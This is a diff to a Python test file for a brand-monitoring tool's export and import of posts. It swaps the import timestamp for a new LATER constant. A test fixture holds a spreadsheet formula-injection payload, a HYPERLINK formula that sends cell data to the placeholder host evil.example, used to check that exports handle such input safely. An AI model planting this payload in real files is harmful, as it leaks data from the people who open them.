@@ -22,6 +22,7 @@ from monitor.words import Status
 from sources.base import Author, Post
 
 AT = datetime(2026, 11, 18, 9, 31, 0, 123456, tzinfo=UTC)
+LATER = AT + timedelta(days=1)  # when all of the posts are there
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 TEXTS = (
     "plain",
@@ -79,7 +80,7 @@ def show(store: Store, brand: str) -> list[dict[str, Any]]:
 def filled(any_store: Store, settings: Settings, now: datetime) -> Store:
     with any_store.write() as session:
         brand = ensure_brand(session, "Aurora Air", now)
-        ingest_posts(session, make_posts(), brand, settings.brand("Aurora Air"), now)
+        ingest_posts(session, make_posts(), brand, settings.brand("Aurora Air"), LATER)
     return any_store
 
 
@@ -99,7 +100,7 @@ def test_what_is_exported_is_imported_without_loss(
 ) -> None:
     said: list[str] = []
     done = import_file(
-        filled, settings, export(form), "Copy", form, now, complain=said.append, progress=lambda rows: None
+        filled, settings, export(form), "Copy", form, LATER, complain=said.append, progress=lambda rows: None
     )
     assert said == []
     assert done.stored == len(TEXTS) + 2
@@ -118,7 +119,7 @@ def test_marks_of_others_are_not_taken_away(
 ) -> None:
     path = tmp_path / "theirs.csv"
     path.write_text("id,text,author,created_at\n1,'=tis,dana,2026-11-18T09:31:00Z\n", encoding="utf-8")
-    import_file(any_store, settings, path, "Copy", "csv", now, complain=pytest.fail, progress=lambda rows: None)
+    import_file(any_store, settings, path, "Copy", "csv", LATER, complain=pytest.fail, progress=lambda rows: None)
     assert [row["text"] for row in show(any_store, "Copy")] == ["'=tis"]
 
 
